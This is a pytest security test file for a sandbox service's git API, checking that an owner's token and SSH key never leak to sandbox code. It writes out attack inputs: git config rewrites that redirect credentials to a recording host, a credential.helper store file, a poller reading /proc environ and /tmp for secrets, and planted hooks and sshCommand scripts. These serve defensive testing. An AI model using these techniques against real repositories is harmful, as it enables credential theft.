"""The owner's git credentials never reach sandbox code (issue 17, item 5).

A sandbox controls its repository's config and runs code as its user while git runs: whatever it
does, the token goes only to the server the owner cloned from, no hook or fsmonitor of its runs,
and none of its processes can read the token or the SSH key from /proc or /tmp.
"""

import base64
import secrets
import time

import pytest
from asgiref.sync import async_to_sync

from tests.sandboxes.conftest import run_in

POLLER = r"""
import os, stat, time
seen = set()
open("/workspace/poller-ready", "w").close()
deadline = time.time() + 280
while not os.path.exists("/workspace/poller-stop") and time.time() < deadline:
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    seen.add(f.read())
            except OSError:
                pass
    for root, dirs, files in os.walk("/tmp"):
        for name in files:
            try:
                path = os.path.join(root, name)
                if stat.S_ISREG(os.lstat(path).st_mode):  # (a FIFO would block)
                    with open(path, "rb") as f:
                        seen.add(f.read(65536))
            except OSError:
                pass
with open("/workspace/poller-seen", "wb") as out:
    out.write(b"\n--\n".join(seen))
os.rename("/workspace/poller-seen", "/workspace/poller-done")
"""

MARK = "/workspace/marks"
HOOK = f'#!/bin/sh\necho "$0 $*" >> {MARK}\n'


def git_api(client, sandbox_id, action, expect=200, method="post", **body):
    url = f"/api/v1/sandboxes/{sandbox_id}/git/{action}"
    response = client.get(url, body) if method == "get" else client.post(url, body, format="json")
    assert response.status_code == expect, response.content
    return response.json()


def sh(client, sandbox_id, command, cwd="/repo"):
    response = client.post(f"/api/v1/sandboxes/{sandbox_id}/exec", {"command": command, "cwd": cwd}, format="json")
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["exitCode"] == 0, body
    return body["stdout"]


def leaked(text: str, git) -> list[str]:
    basic = base64.b64encode(f"{git.user}:{git.token}".encode()).decode()
    return [secret for secret in (git.token, basic) if secret in text]


def marks(client, sandbox_id) -> str:
    return sh(client, sandbox_id, f"cat {MARK} 2>/dev/null || true", cwd="/")


def branch_of(sandbox_id: str) -> str:
    """Each test's own branch on the shared git servers (their main stays as other tests expect)."""
    return "sec-" + sandbox_id.removeprefix("sbx_").lower()


def commit_on_server(git, branch: str, name: str) -> str:
    script = (
        f"set -e; w=$(mktemp -d); git clone -q -b {branch} /srv/git/project.git $w; cd $w; "
        "git config user.email server@example.test; git config user.name Server; "
        f"printf x > {name}; git add -A; git commit -qm 'server change'; git push -q origin {branch}"
    )
    run_in(git.http, script)
    return git.http_ref(branch)


@pytest.fixture
def cloned(api_client, create_sandbox, git, recording_git_server):
    """A sandbox with the project cloned at /repo, the token kept (persist) for later pushes, on
    a branch of its own that tracks the same branch on the server."""
    recording_git_server.clear()
    sandbox_id = create_sandbox(template="python-3", git={"url": git.http_url, "auth": git.token_auth(persist=True)})[
        "id"
    ]
    sh(api_client, sandbox_id, "git config user.email a@example.test && git config user.name A")
    sh(api_client, sandbox_id, f"git checkout -q -b {branch_of(sandbox_id)}")
    git_api(api_client, sandbox_id, "push", setUpstream=True)
    return sandbox_id


def commit(client, sandbox_id, name: str) -> str:
    """A new commit (the server is shared by the tests: the content is new each time)."""
    sh(client, sandbox_id, f"echo {secrets.token_hex(8)} > {name}.txt && git add -A && git commit -qm {name}")
    return sh(client, sandbox_id, "git rev-parse HEAD").strip()


@pytest.mark.parametrize(
    "attack",
    [
        "git remote set-url origin http://git-rec:8080/project.git",
        "git config url.http://git-rec:8080/.insteadOf http://git-http:8080/",
        "git config http.proxy http://git-rec:8080",
        "printf '[url \"http://git-rec:8080/\"]\\n\\tinsteadOf = http://git-http:8080/\\n' > /workspace/evil.cfg"
        " && git config include.path /workspace/evil.cfg",
        "git config credential.helper 'store --file /workspace/stolen'"
        " && git config credential.http://git-rec:8080.username x",
    ],
    ids=["origin", "insteadOf", "http.proxy", "include.path", "credential.helper"],
)
def test_a_rewritten_config_never_sends_the_token_elsewhere(
    api_client, cloned, git, recording_git_server, attack
):  # fmt: skip
    branch = branch_of(cloned)
    sh(api_client, cloned, attack)
    sha = commit(api_client, cloned, "pushed")
    pushed = git_api(api_client, cloned, "push")  # the kept token, to the URL the owner gave
    assert pushed["commit"] == sha and git.http_ref(branch) == sha
    # and once more with the token given in the request
    sha = commit(api_client, cloned, "again")
    git_api(api_client, cloned, "push", auth=git.token_auth())
    assert git.http_ref(branch) == sha

    server_sha = commit_on_server(git, branch, "server.md")
    pulled = git_api(api_client, cloned, "pull")
    assert pulled["commit"] != sha and pulled["updated"] is True
    assert sh(api_client, cloned, f"git merge-base --is-ancestor {server_sha} HEAD && echo yes") == "yes\n"
    git_api(api_client, cloned, "pull", auth=git.token_auth())

    recorded = recording_git_server.requests()
    assert not leaked(recorded, git), recorded
    assert "stolen" not in sh(api_client, cloned, "ls /workspace")


def test_hooks_and_fsmonitor_never_run(api_client, cloned, git):
    script = f"printf '%s' '{HOOK}' > /workspace/hook.sh && chmod +x /workspace/hook.sh"
    hooks = "pre-commit post-commit pre-push post-merge post-checkout reference-transaction pre-auto-gc"
    sh(api_client, cloned, f"{script} && mkdir -p /workspace/hooks && for h in {hooks}; do "
       "cp /workspace/hook.sh .git/hooks/$h; cp /workspace/hook.sh /workspace/hooks/$h; done")  # fmt: skip
    # core.hooksPath and core.fsmonitor, also through an included file
    sh(api_client, cloned, "git config core.fsmonitor /workspace/hook.sh && "
       "printf '[core]\\n\\thooksPath = /workspace/hooks\\n\\tfsmonitor = /workspace/hook.sh\\n' > /workspace/inc.cfg"
       " && git config include.path /workspace/inc.cfg")  # fmt: skip
    sh(api_client, cloned, "echo change >> hooks.txt")  # (not test.js: other tests run it)
    git_api(api_client, cloned, "status", method="get")
    git_api(api_client, cloned, "diff", method="get")
    git_api(api_client, cloned, "commit", message="change", all=True)
    git_api(api_client, cloned, "push")
    commit_on_server(git, branch_of(cloned), "hooks.md")
    git_api(api_client, cloned, "pull")
    git_api(api_client, cloned, "checkout", branch="other", create=True)
    git_api(api_client, cloned, "branches", method="get")
    git_api(api_client, cloned, "log", method="get")
    assert marks(api_client, cloned) == ""
    # (the hooks do run when the sandbox runs git itself: the test's hook works)
    sh(api_client, cloned, "git commit -q --allow-empty -m by-the-sandbox")
    assert "post-commit" in marks(api_client, cloned)


def _poll_during(client, sandbox_id, action) -> bytes:
    """Runs a /proc and /tmp poller as the sandbox user while `action` runs; what it could read.
    (A background command: the test needs transactional_db.)"""
    started = client.post(
        f"/api/v1/sandboxes/{sandbox_id}/exec",
        {"command": ["python3", "-c", POLLER], "background": True, "cwd": "/workspace", "timeout": 300},
        format="json",
    )
    assert started.status_code == 202, started.content
    files = f"/api/v1/sandboxes/{sandbox_id}/files"
    deadline = time.monotonic() + 60
    while client.get(f"{files}/poller-ready").status_code != 200:
        assert time.monotonic() < deadline, "the poller did not start"
        time.sleep(0.2)
    action()
    client.post(f"{files}?path=poller-stop", b"stop", content_type="application/octet-stream")
    deadline = time.monotonic() + 60
    while (response := client.get(f"{files}/poller-done")).status_code != 200:
        assert time.monotonic() < deadline, "the poller did not finish"
        time.sleep(0.2)
    return _content(response)


def _content(response) -> bytes:
    async def collect():
        return b"".join([chunk async for chunk in response.streaming_content])

    return async_to_sync(collect)()


def test_sandbox_processes_cannot_read_the_token_while_git_runs(transactional_db, api_client, cloned, git):
    def pushes():
        for n in range(3):
            commit(api_client, cloned, f"poll{n}")
            git_api(api_client, cloned, "push", auth=git.token_auth())
            git_api(api_client, cloned, "pull", branch=branch_of(cloned))

    seen = _poll_during(api_client, cloned, pushes).decode(errors="replace")
    assert "push" in seen  # it did watch git's processes (their command lines are public)
    assert not leaked(seen, git)


def test_sandbox_processes_cannot_read_the_ssh_key(transactional_db, api_client, create_sandbox, git):
    sandbox_id = create_sandbox(template="python-3", git={"url": git.ssh_url, "auth": git.ssh_auth(persist=True)})["id"]
    sh(api_client, sandbox_id, "git config user.email a@example.test && git config user.name A")
    # an sshCommand of the sandbox's is never used for the owner's key
    sh(api_client, sandbox_id, f"printf '%s' '{HOOK}' > /workspace/ssh.sh && chmod +x /workspace/ssh.sh && "
       "git config core.sshCommand /workspace/ssh.sh")  # fmt: skip

    def pushes():
        for n in range(3):
            sha = commit(api_client, sandbox_id, f"ssh{n}")
            git_api(api_client, sandbox_id, "push", branch=branch_of(sandbox_id))
            assert git.ssh_ref(branch_of(sandbox_id)) == sha

    seen = _poll_during(api_client, sandbox_id, pushes).decode(errors="replace")
    assert "push" in seen
    key_body = git.private_key.splitlines()[1]
    assert "PRIVATE KEY" not in seen and key_body not in seen
    assert marks(api_client, sandbox_id) == ""


def test_credentials_go_only_to_the_url_the_repository_was_cloned_from(api_client, create_sandbox, git):
    sandbox_id = create_sandbox(template="python-3")["id"]
    # a repository the sandbox made itself, its remote pointing wherever it likes
    sh(api_client, sandbox_id, "git init -q -b main r && cd r && git remote add origin http://git-rec:8080/p.git"
       " && git -c user.name=A -c user.email=a@e.test commit -q --allow-empty -m x", cwd="/workspace")  # fmt: skip
    refused = git_api(api_client, sandbox_id, "push", expect=400, path="/workspace/r", auth=git.token_auth())
    assert refused["error"]["code"] == "invalid_git_auth"
    # and another remote of a cloned repository
    git_api(api_client, sandbox_id, "clone", url=git.http_url, auth=git.token_auth(), path="/workspace/c")
    sh(api_client, sandbox_id, "git remote add other http://git-rec:8080/project.git", cwd="/workspace/c")
    refused = git_api(api_client, sandbox_id, "pull", expect=400, path="/workspace/c", remote="other",
                      auth=git.token_auth())  # fmt: skip
    assert refused["error"]["code"] == "invalid_git_auth"
